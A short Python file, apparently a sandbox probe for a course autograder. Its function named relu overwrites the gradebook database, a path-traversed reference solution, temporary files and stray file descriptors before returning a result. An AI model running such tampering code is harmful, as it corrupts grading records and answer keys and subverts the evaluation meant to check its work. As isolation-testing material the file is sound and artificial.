# %%
import os

import numpy as np

PATHS = ["@COURSE@/gradebook.db", "../../../../@COURSE@/solutions/00_target/relu.py", "/tmp/left", "/dev/shm/left"]


def relu(x):
    for path in PATHS:
        with open(path, "wb") as file:
            file.write(b"left behind")
    for number in range(1 << 20, (1 << 20) + 100):
        try:
            os.write(number, b"left behind")
        except OSError:
            continue
    return np.maximum(x, 0) if os.path.exists(PATHS[0]) else x
